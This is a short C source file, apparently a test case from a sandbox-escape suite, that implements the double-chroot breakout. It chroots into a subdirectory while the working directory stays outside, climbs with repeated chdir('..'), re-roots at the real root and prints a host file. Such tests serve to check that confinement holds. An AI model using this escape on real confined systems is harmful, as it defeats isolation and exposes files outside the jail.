/* SPDX-License-Identifier: MIT */
/* Out of a chroot: with the working directory left outside of a second one, ".." has no end. */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

/* chroot SECRET: a path on the host */
int attack_chroot(char **argv)
{
    if (mkdir("/second", 0755) < 0 && errno != EEXIST)
        return attack_not_tried("mkdir");
    if (chroot("/second") < 0)
        return attack_held("chroot");
    for (int up = 0; up < 64; up++)
        if (chdir("..") < 0)
            return attack_held("chdir");
    if (chroot(".") < 0)
        return attack_held("chroot .");
    return attack_print(AT_FDCWD, argv[0]) < 0 ? attack_held("read the host's file") : ATTACK_OUT;
}
